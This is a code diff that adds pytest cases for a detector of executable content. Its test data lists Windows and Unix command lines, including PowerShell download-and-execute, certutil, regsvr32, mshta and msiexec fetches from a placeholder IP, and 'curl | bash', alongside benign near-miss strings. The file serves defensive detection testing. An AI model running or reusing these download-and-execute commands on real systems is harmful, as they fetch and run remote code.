@@ -668,6 +668,93 @@ def test_contents(body: bytes | None, content: str | None, types: str | None, ga
     assert all(column[0].as_py() is None for column in columns.values())
 
 
+ENCODED = "powershell -enc SQBFAFgA"
+COMMANDS = {
+    ENCODED: "powershell",
+    "PowerShell.exe -NoProfile -w hidden -c calc": "powershell",
+    "powershell IEX(New-Object Net.WebClient).DownloadString('http://a/b')": "powershell",
+    "powershell (New-Object Net.WebClient).DownloadFile('a','b')": "powershell",
+    'powershell "& {Start-Process calc}"': "powershell",
+    "powershell /c calc": "powershell",
+    r".\deploy\pwsh -File a.ps1": "pwsh",
+    r'"C:\Program Files\PowerShell\7\pwsh.exe" -Command $env:PATH': "pwsh",
+    "cmd /c whoami": "cmd",
+    "CMD.EXE /Q /C whoami": "cmd",
+    "cmd/c whoami": "cmd",
+    r"C:\Windows\System32\cmd.exe /k a": "cmd",
+    "%COMSPEC% /c a": "%comspec%",
+    r"%SystemRoot%\system32\cmd.exe /c a": "cmd",
+    "mshta http://192.0.2.1/a.hta": "mshta",
+    'mshta vbscript:Execute("a")': "mshta",
+    "\r\n rundll32.exe shell32.dll,Control_RunDLL a": "rundll32",
+    "rundll32 shell32,Control_RunDLL": "rundll32",
+    r"rundll32 \\192.0.2.1\share\a,b": "rundll32",
+    "certutil -urlcache -split -f http://192.0.2.1/a a.exe": "certutil",
+    "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll": "regsvr32",
+    "bitsadmin /transfer a http://192.0.2.1/a b": "bitsadmin",
+    "wscript //B a.js": "wscript",
+    'wmic process call create "calc"': "wmic",
+    "msiexec /q /i http://192.0.2.1/a.msi": "msiexec",
+    "schtasks /create /tn a /tr b": "schtasks",
+    "curl -s http://192.0.2.1/a | bash": "curl",
+    "bash -lc 'id'": "bash",
+}
+NO_COMMANDS = (
+    "powershell",
+    "cmd",
+    "cmd ",
+    "cmd.exe",
+    "powershell.exe\r\n",
+    "cmd 42",
+    "CMD: restart pump 3",
+    "cmd / c",
+    "PowerShell training on Monday, see http://a/b",
+    "PowerShell add-on",
+    "PowerShell start-up guide",
+    "mshta failed",
+    "PowerShell - an introduction",
+    "PowerShell (scripts)",
+    "PowerShell/Bash scripts",
+    "PowerShell /Bash scripts",
+    "PowerShell $5",
+    "rundll32 crashed.",
+    "rundll32 error, code 5",
+    "certutil: -2146885628",
+    "wget/curl is missing",
+    "curl: (6) Could not resolve host",
+    "wget - a program",
+    "regsvr32 failed: a.dll",
+    "msiexec returned 1603",
+    "run cmd /c whoami",
+    "<a>cmd /c whoami</a>",
+    '{"a": "cmd /c whoami"}',
+    "cmdlet /c",
+    "mycmd /c a",
+    "xcmd /c a",
+    "https://example.com/powershell -enc",
+    "bash is a shell",
+    "cscript",
+    "p^owershell -enc AAAA",
+    "\0cmd /c a",
+)
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16-le", "utf-16"])
+def test_command_lines(encoding: str) -> None:
+    """The first word is a program, and what follows is its argument; a text about a program is none."""
+    lines = [*COMMANDS, *(command.upper() for command in COMMANDS), *NO_COMMANDS]
+    expected = [f"a command line for {name}" for name in COMMANDS.values()] * 2 + [None] * len(NO_COMMANDS)
+    columns = content_columns(pa.array([line.encode(encoding) for line in lines], pa.binary()))
+    assert dict(zip(lines, columns["content"].to_pylist(), strict=True)) == dict(
+        zip(lines, expected, strict=True)
+    )
+
+
+def test_the_page_names_every_program() -> None:
+    (pattern,) = [pattern for pattern in PATTERNS if pattern.id == "executable-body"]
+    assert all(name in pattern.limits for name in COMMANDS.values())
+
+
 BEGINNINGS = {
     "MZ with a PE, NE, LE or LX header": b"MZ" + bytes(58) + number(64) + b"LX",
     "ELF": b"\x7fELF\2\1\1",
@@ -690,6 +777,8 @@ def test_the_page_names_what_is_known() -> None:
     ("body", "expected"),
     [
         (PE, {"executable-body"}),
+        (ENCODED.encode(), {"executable-body"}),
+        (ENCODED.encode("utf-16-le"), {"executable-body"}),
         (stream(PERSON, b"\x0a"), {"dotnet-object"}),
         (stream(kind(1, "System.Data.DataSet")), {"dotnet-object", "dotnet-gadget"}),
         (b"text", set()),
